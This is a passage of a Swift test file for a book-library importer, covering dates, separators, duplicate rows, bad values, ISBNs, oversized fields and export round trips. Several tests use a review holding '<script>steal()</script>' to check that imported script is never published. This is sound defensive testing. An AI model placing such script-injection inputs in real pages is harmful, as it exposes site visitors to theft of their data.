    /// row. With a Read Count of 1 the date was dropped (an undated read); with 0 the book showed
    /// "Last read" but had no read, and no year counted it (found by an exploratory session).
    @Test func aBookToReadAgainKeepsTheDateItWasReadLast() throws {
        let shelf = try TemporaryShelf()
        let text =
            "Book Id,Title,Author,Exclusive Shelf,Date Read,Read Count\n1,Dune,Frank Herbert,to-read,2023/02/02,1\n"
            + "2,Emma,Jane Austen,to-read,2023/02/03,0\n3,Ubik,Philip K. Dick,to-read,2021/05/01,3\n"
        _ = try importText(text, into: shelf)
        for (slug, reads) in [
            ("dune", ["2023-02-02"]), ("emma", ["2023-02-03"]), ("ubik", [nil, nil, "2021-05-01"]),
        ] {
            let book = try shelf.library.findBook(matching: slug)
            #expect(book.book.status == .toRead, "\(slug)")
            #expect(book.reads.map(\.finished?.description) == reads, "\(slug)")
            #expect(book.reads.allSatisfy { $0.outcome == .finished }, "\(slug)")
        }
        // Importing the file again changes nothing.
        _ = try importText(text, into: shelf)
        #expect(try shelf.library.findBook(matching: "dune").reads.count == 1)
    }

    /// A spreadsheet saved the export with semicolons, and the import said it had no Title
    /// column (found by an exploratory session).
    @Test func aFileSeparatedBySemicolonsIsSaidToBe() throws {
        let shelf = try TemporaryShelf()
        #expect(throws: ImportError.semicolons(source: .goodreads)) {
            try importText("Book Id;Title;Author;My Rating\n1;Dune;Frank Herbert;5\n", into: shelf)
        }
        // Without the columns, whatever separates them, the file is not the export named.
        let other = #expect(throws: ImportError.self) {
            try importText("Book Id;Name;Author\n1;Dune;Frank Herbert\n", into: shelf)
        }
        #expect(other != ImportError.semicolons(source: .goodreads))
    }

    /// An error naming two missing columns said "no Title, Author column"; a LibraryThing import
    /// of a comma-separated file said "no Title column", as it read the whole header as one
    /// column. Found by an exploratory session.
    @Test func missingColumnsAreNamedAsColumnsAndACommaSeparatedLibraryThingFileIsSaidToBe() throws {
        #expect(
            ImportError.missingColumns(source: .goodreads, columns: ["Title", "Author"]).description
                == "this is not a Goodreads export: it has no Title and Author columns; check the file and the format you named"
        )
        #expect(
            ImportError.missingColumns(source: .goodreads, columns: ["Author"]).description.contains(
                "it has no Author column;"))
        #expect(
            ImportError.notHighlights(
                source: .readwise, path: nil, reason: "it has no \(["Highlight", "Book Title", "Note"].namedAsColumns)"
            ).description.contains("(it has no Highlight, Book Title and Note columns)"))
        let shelf = try TemporaryShelf()
        let file = try TestPaths.temporaryFolder("librarything-csv").appendingPathComponent("librarything.csv")
        let importer = shelf.importer
        for header in ["Book Id,Title,Primary Author", "\"Book Id\",\"Title\",\"Primary Author\""] {
            try Data("\(header)\n1,Dune,\"Herbert, Frank\"\n".utf8).write(to: file)
            #expect(throws: ImportError.notTabSeparated(source: .librarything)) {
                try importer.run(file: file, as: .librarything)
            }
        }
        #expect(
            ImportError.notTabSeparated(source: .librarything).description
                == "this LibraryThing file is comma-separated, not tab-separated as LibraryThing exports its library: export it again as tab-delimited text (.tsv) and import that"
        )
    }

    /// `add --finished 2205-03-01` warns of a date after today; an import of the same date took
    /// it without a word, and the site showed a book read in 2205. Found by an exploratory
    /// session. Each reading date after today is named, with its line.
    @Test func aReadingDateAfterTodayIsWarnedOf() throws {
        let shelf = try TemporaryShelf()
        let goodreads = try importText(
            "Book Id,Title,Author,Date Read,Exclusive Shelf\n1,Dune,Frank Herbert,2205/03/01,read\n"
                + "2,Emma,Jane Austen,2025/12/31,read\n3,Kindred,Octavia E. Butler,2026/01/01,read\n", into: shelf)
        #expect(
            goodreads.summary.warnings == [
                RowWarning(
                    line: 2, message: "reading date 2205-03-01 is after today: imported as it is; the site will show it"
                )
            ])
        let csv = try TestPaths.temporaryFolder("future").appendingPathComponent("storygraph.csv")
        try Data(
            "Title,Authors,Read Status,Dates Read\nPiranesi,Susanna Clarke,read,\"2020/02/10-2020/02/20, 2027/01/05-2027/02/01\"\n"
                .utf8
        ).write(to: csv)
        let storygraph = try shelf.importer.run(
            file: csv, as: .storygraph, dryRun: true)
        #expect(
            storygraph.summary.warnings.map(\.message) == [
                "reading dates 2027-01-05 and 2027-02-01 are after today: imported as they are; the site will show them"
            ])
    }

    /// An import's "after today" was UTC's tomorrow: in Pago Pago on the afternoon of New Year's
    /// Eve 2024 (1 January in UTC), a book finished on 2 January 2025 came in without a word
    /// (found by an exploratory session). Any date after the reader's today, where the library's
    /// clock says they are, is warned of; their today is not.
    @Test func aReadingDateAfterTheReadersTodayIsWarnedOfWhereverTheyAre() throws {
        let pagoPago = try #require(TimeZone(identifier: "Pacific/Pago_Pago"))
        // 2024-12-31T14:00 in Pago Pago, 2025-01-01T01:00 in UTC.
        let shelf = try TemporaryShelf(clock: .fixed(Date(timeIntervalSince1970: 1_735_693_200), in: pagoPago))
        let summary = try importText(
            "Book Id,Title,Author,Date Read,Exclusive Shelf\n1,Dune,Frank Herbert,2024/12/31,read\n"
                + "2,Emma,Jane Austen,2025/01/02,read\n", into: shelf
        ).summary
        #expect(
            summary.warnings == [
                RowWarning(
                    line: 3, message: "reading date 2025-01-02 is after today: imported as it is; the site will show it"
                )
            ])
    }

    /// The same book on two rows of one file: both were applied, the second over the first,
    /// counted as one added and one updated, and every import after said "2 updated" (found by an
    /// exploratory session). The second row is left out, and named.
    @Test func theSameBookTwiceInAFileIsTakenOnceAndTheOtherRowNamed() throws {
        let shelf = try TemporaryShelf()
        let text =
            ImportEdgeTests.header
            + "1,Dune,Frank Herbert,,9780441172719,5,1965,1965,read\n"
            + "2,Dune,Frank Herbert,,9780441172719,3,1965,1965,read\n"
        for time in 0..<2 {
            let summary = try importText(text, into: shelf).summary
            #expect(summary.added.count == 1 - time && summary.unchanged == time && summary.updated.isEmpty)
            #expect(
                summary.skipped == [SkippedRow(line: 3, reason: "the same book as line 2, which is the one imported")])
        }
        #expect(try shelf.library.findBook(matching: "dune").book.rating?.stars == 5)
    }

    /// Every value a row can get wrong costs that value, named with its line, and never the row.
    @Test func aBadValueIsLeftOutWithItsLineAndTheRowIsKept() throws {
        let shelf = try TemporaryShelf()
        let text = """
            Title,Authors,Read Status,Star Rating,Dates Read,Date Added
            Kindred,Octavia E. Butler,read,five,2021/01/01-2021/02/01,2021/01/01
            Dawn,Octavia E. Butler,read,9,2024/05/01-2024/03/01,
            Imago,Octavia E. Butler,read,4,,"2024/13/45
            and more"

            """
        let file = try TestPaths.temporaryFolder("edge").appendingPathComponent("storygraph.csv")
        try Data(text.utf8).write(to: file)
        let report = try shelf.importer
            .run(file: file, as: .storygraph)
        #expect(report.summary.added == ["kindred", "dawn", "imago"] && report.summary.skipped.isEmpty)
        #expect(
            report.summary.warnings.map { "\($0.line): \($0.message)" } == [
                "2: Star Rating 'five' is not a number: imported without a rating",
                "3: Dates Read '2024/05/01-2024/03/01' ends before it begins: imported without the start",
                "3: Star Rating '9' is not between 0.25 and 5: imported without a rating",
                "4: Date Added '2024/13/45 and more' is not a date: imported without it",
            ])
        let dawn = try shelf.library.findBook(matching: "dawn").book
        #expect(dawn.finishedDate?.description == "2024-03-01" && dawn.startedDate == nil && dawn.rating == nil)
        #expect(try shelf.library.findBook(matching: "imago").book.rating?.stars == 4)
    }

    /// An ISBN that is not one (a checksum off, a stray word) was dropped without a word, where
    /// every other value a row gets wrong is named (found by an exploratory session).
    @Test func anISBNThatIsNotOneIsNamed() throws {
        let shelf = try TemporaryShelf()
        let report = try importText(
            Self.header + #"1,Kindred,Octavia E. Butler,"=""0385000000""","=""9780000000000""",0,,,to-read"# + "\n"
                + #"2,Dawn,Octavia E. Butler,"=""""","=""""",0,,,to-read"# + "\n"
                + #"3,Imago,Octavia E. Butler,"=""0446603635""","=""9780000000000""",0,,,to-read"# + "\n",
            into: shelf)
        #expect(report.summary.added.count == 3)
        // Only where no ISBN was taken: Imago's ISBN-10 stands in for its broken ISBN-13.
        #expect(
            report.summary.warnings.map { "\($0.line): \($0.message)" } == [
                "2: ISBN13 '9780000000000' and ISBN '0385000000' are not valid ISBNs: imported without one"
            ])
        #expect(try shelf.library.findBook(matching: "imago").book.isbn10 == "0446603635")
        #expect(try shelf.library.findBook(matching: "kindred").book.isbn13 == nil)
    }

    /// A reader may allow raw HTML in their own notes; a review from an export is not theirs until
    /// they edit it. (A review of lines of its own is taken as written, raw HTML and all: a
    /// one-line Goodreads review is made Markdown, see ReviewMarkupTests.)
    @Test func anImportedReviewNeverGetsRawHTMLUntilTheReaderEditsIt() throws {
        let shelf = try TemporaryShelf()
        _ = try importText(
            "Book Id,Title,Author,My Review\n1,Dune,Frank Herbert,\"<script>steal()</script>\n<b>Great</b>\"\n",
            into: shelf)
        let settings = SiteSettings(allowsRawHTMLInNotes: true)
        try shelf.build(settings: settings)
        let first = try shelf.siteFile("books/dune/index.html")
        #expect(!first.contains("steal()") && !first.contains("<b>Great</b>"))
        let notes = NoteStore(folder: shelf.paths.notes)
        let imported = try #require(try notes.note(forSlug: "dune"))
        try notes.writeNote(imported + "\nMine: <mark>yes</mark>\n", forSlug: "dune")
        try shelf.build(settings: settings)
        let second = try shelf.siteFile("books/dune/index.html")
        #expect(second.contains("<mark>yes</mark>") && second.contains("<b>Great</b>"))
        // And a full build, which reads every note afresh, agrees.
        try shelf.build(settings: SiteSettings())
        try shelf.build(settings: settings)
        #expect(try shelf.siteFile("books/dune/index.html") == second)
    }

    /// An imported note whose line ends a checkout with `core.autocrlf` or a sync tool changed, or
    /// that an editor saved with a byte-order mark or as UTF-16, is still the import's text: its
    /// bytes no longer had the recorded hash, so it counted as the reader's own and the export's
    /// script was published where they allow raw HTML (found by an exploratory session).
    @Test func anImportedReviewWhoseLineEndsChangedIsStillTheImports() throws {
        let shelf = try TemporaryShelf()
        _ = try importText(
            "Book Id,Title,Author,My Review\n1,Dune,Frank Herbert,\"<script>steal()</script>\n\nLast line.\"\n",
            into: shelf)
        let notes = NoteStore(folder: shelf.paths.notes)
        let imported = try #require(try notes.note(forSlug: "dune"))
        #expect(imported.contains("steal()"))
        let crlf = imported.replacingOccurrences(of: "\n", with: "\r\n")
        let littleEndian = Array(crlf.utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        let rewrites: [(String, [UInt8])] = [
            ("CR LF", Array(crlf.utf8)),
            ("a byte-order mark and CR LF", [0xEF, 0xBB, 0xBF] + Array(crlf.utf8)),
            ("UTF-16", [0xFF, 0xFE] + littleEndian),
            ("lone CR", Array(imported.replacingOccurrences(of: "\n", with: "\r").utf8)),
        ]
        for (name, bytes) in rewrites {
            try Data(bytes).write(to: notes.url(forSlug: "dune"))
            try shelf.build(settings: SiteSettings(allowsRawHTMLInNotes: true))
            let page = try shelf.siteFile("books/dune/index.html")
            #expect(page.contains("Last line.") && !page.contains("<script>steal()"), "\(name)")
        }
    }

    /// An import stopped after its notes were in place and before the library committed leaves
    /// the review as a note; the import run again takes it as the review it is, so its raw HTML
    /// is still never published (it took it for the reader's own: found by a review).
    @Test func aReviewLeftInPlaceByAStoppedImportIsStillTheImports() throws {
        let shelf = try TemporaryShelf()
        let review = "<script>steal()</script>\n<b>Great</b>"
        try shelf.writeNote(review + "\n", slug: "dune")
        let report = try importText("Book Id,Title,Author,My Review\n1,Dune,Frank Herbert,\"\(review)\"\n", into: shelf)
        #expect(report.notesWritten == 0 && report.notesKept == 0)
        try shelf.build(settings: SiteSettings(allowsRawHTMLInNotes: true))
        let page = try shelf.siteFile("books/dune/index.html")
        #expect(!page.contains("steal()") && !page.contains("<b>Great</b>"), "\(page)")
    }

    @Test func aYearTheCalendarCannotHoldKeepsTheRow() throws {
        let shelf = try TemporaryShelf()
        let report = try importText(Self.header + "1,The Republic,Plato,,,5,,-380,read\n", into: shelf)
        #expect(report.summary.added.count == 1 && report.summary.skipped.isEmpty)
        #expect(try shelf.library.findBook(matching: "republic").book.publishedDate == nil)
    }

    /// Goodreads' `Year Published` of 500 was "not a date: imported without it", where `read` and
    /// `add` take any year from 1 to 9999: only four digits made a year (found by an exploratory
    /// session). A year column takes a year of one to four digits.
    @Test func aYearOfFewerThanFourDigitsIsAYear() throws {
        let shelf = try TemporaryShelf()
        let report = try importText(
            "Book Id,Title,Author,Year Published,Original Publication Year\n"
                + "1,Confessions,Augustine of Hippo,500,397\n2,Dune,Frank Herbert,2005,1965\n", into: shelf)
        #expect(report.summary.added.count == 2 && report.summary.warnings.isEmpty, "\(report.summary.warnings)")
        let confessions = try shelf.library.findBook(matching: "confessions").book
        #expect(confessions.publishedDate?.description == "0500" && confessions.firstPublished?.description == "0397")
        let dune = try shelf.library.findBook(matching: "dune").book
        #expect(dune.publishedDate?.description == "2005" && dune.firstPublished?.description == "1965")
    }

    @Test func absurdCountsAreLeftOutWithAWarningNamingTheRow() throws {
        let shelf = try TemporaryShelf()
        let report = try importText(
            "Book Id,Title,Author,Number of Pages,Read Count\n"
                + "1,Dune,Frank Herbert,9223372036854775807,99999999999999999999\n2,Emma,Jane Austen,474,0\n",
            into: shelf)
        #expect(report.summary.added.count == 2 && report.summary.skipped.isEmpty)
        #expect(
            report.summary.warnings == [
                RowWarning(
                    line: 2,
                    message: "Number of Pages '9223372036854775807' is not a whole number from 1 to 100000: left out"),
                RowWarning(
                    line: 2, message: "Read Count '99999999999999999999' is not a whole number from 1 to 1000: left out"
                ),
            ])
        let dune = try shelf.library.findBook(matching: "dune")
        #expect(dune.book.pageCount == nil && dune.timesRead <= 1)
        #expect(try shelf.library.findBook(matching: "emma").book.pageCount == 474)

        let json = """
            {"bookplate": 2, "authors": [], "books": [{"slug": "emma-2", "title": "Emma Again", "authors": [],
            "pages": \(Int.max), "readCount": -3, "subjects": [], "status": "read", "shelves": [],
            "added": "2024-01-01T00:00:00Z"}]}
            """
        let file = try TestPaths.temporaryFolder("edge").appendingPathComponent("export.json")
        try Data(json.utf8).write(to: file)
        let fromJSON = try shelf.importer
            .run(file: file, as: .bookplate)
        #expect(fromJSON.summary.added == ["emma-2"] && fromJSON.summary.warnings.count == 2)
        #expect(try shelf.library.findBook(matching: "emma-2").book.pageCount == nil)
    }

    /// A field of megabytes would make a page of megabytes: it is cut, and the report says so.
    @Test func fieldsOfMegabytesAreCutWithAWarningNamingTheRow() throws {
        let shelf = try TemporaryShelf()
        let huge = String(repeating: "word ", count: 600_000)
        let report = try importText(
            "Book Id,Title,Author,My Review\n1,Dune,Frank Herbert,Fine.\n2,\(huge),\(huge),\(huge)\n", into: shelf)
        #expect(report.summary.added.count == 2 && report.summary.skipped.isEmpty)
        #expect(
            report.summary.warnings == [
                RowWarning(line: 3, message: "the title is 2999999 characters long: cut to the first 10000"),
                RowWarning(line: 3, message: "an author's name is 2999999 characters long: cut to the first 10000"),
                RowWarning(line: 3, message: "the review is 3000000 characters long: cut to the first 1000000"),
            ])
        let book = try #require(try shelf.library.books().first { $0.book.title.hasPrefix("word word") })
        #expect(book.book.title.count < 10_000 && book.authors.first.map { $0.name.count < 10_000 } == true)
        let note = try #require(try NoteStore(folder: shelf.paths.notes).note(forSlug: book.book.slug))
        #expect(note.count <= 1_000_000)
        try shelf.build()
        let page = try shelf.siteFile("books/\(book.book.slug)/index.html")
        #expect(page.utf8.count < 2_000_000)

        let json = """
            {"bookplate": 2, "authors": [{"slug": "a", "name": "A", "sortName": "A", "bio": "\(huge)"}],
            "books": [{"slug": "b", "title": "B", "authors": ["A"], "subjects": [], "status": "read",
            "shelves": [], "added": "2024-01-01T00:00:00Z", "note": "\(huge)"}]}
            """
        let file = try TestPaths.temporaryFolder("edge").appendingPathComponent("export.json")
        try Data(json.utf8).write(to: file)
        let fromJSON = try shelf.importer
            .run(file: file, as: .bookplate)
        #expect(
            fromJSON.summary.warnings == [
                RowWarning(
                    line: 0, message: "author 1: an author's bio is 3000000 characters long: cut to the first 1000000")
            ])
        // The shelf's own export brings back any note a build publishes (4 MB) whole.
        let ownNote = try #require(try NoteStore(folder: shelf.paths.notes).note(forSlug: "b"))
        #expect(ownNote.utf8.count >= 2_999_999)
    }

    @Test func aFileCutOffInsideAQuoteIsReported() throws {
        let shelf = try TemporaryShelf()
        let report = try importText(
            Self.header + "1,Dune,Frank Herbert,,,5,1965,,read\n2,\"Cut off, Herbert", into: shelf)
        #expect(report.summary.added.count == 1)
        #expect(report.summary.skipped.first?.reason.contains("never closes") == true)
    }

    @Test func volumesOfOneWorkStayApart() throws {
        let shelf = try TemporaryShelf()
        try shelf.library.addBook(
            NewBook(title: "The Lord of the Rings: The Fellowship of the Ring", authors: ["J. R. R. Tolkien"]))
        let report = try importText(
            Self.header + "9,The Lord of the Rings: The Two Towers,J. R. R. Tolkien,,,4,1954,,read\n", into: shelf)
        #expect(report.summary.added.count == 1)
        #expect(try shelf.library.books().count == 2)
        #expect(throws: Never.self) {
            try shelf.library.addBook(
                NewBook(title: "The Lord of the Rings: The Return of the King", authors: ["J. R. R. Tolkien"]))
        }
    }
}

/// Exports a shelf as JSON and as CSV, imports each into a fresh shelf, exports again, and
/// expects the same bytes.
enum ExportRoundTrip {
    static func expectSameBytes(from shelf: TemporaryShelf, sourceLocation: SourceLocation = #_sourceLocation) throws {
        let exporter = LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes))
        for (format, source) in [("json", ImportSource.bookplate), ("csv", .goodreads)] {
            let first = format == "json" ? try exporter.json() : try exporter.goodreadsCSV()
            let file = try TestPaths.temporaryFolder("export").appendingPathComponent("export.\(format)")
            try first.write(to: file)
            let fresh = try TemporaryShelf()
            _ = try fresh.importer.run(
                file: file, as: source)
            let again = LibraryExporter(library: fresh.library, notes: NoteStore(folder: fresh.paths.notes))
            let second = format == "json" ? try again.json() : try again.goodreadsCSV()
            #expect(
                first == second, "\(format): \(GoldenFiles.readableDiff(first, second))", sourceLocation: sourceLocation
            )
        }
    }
}
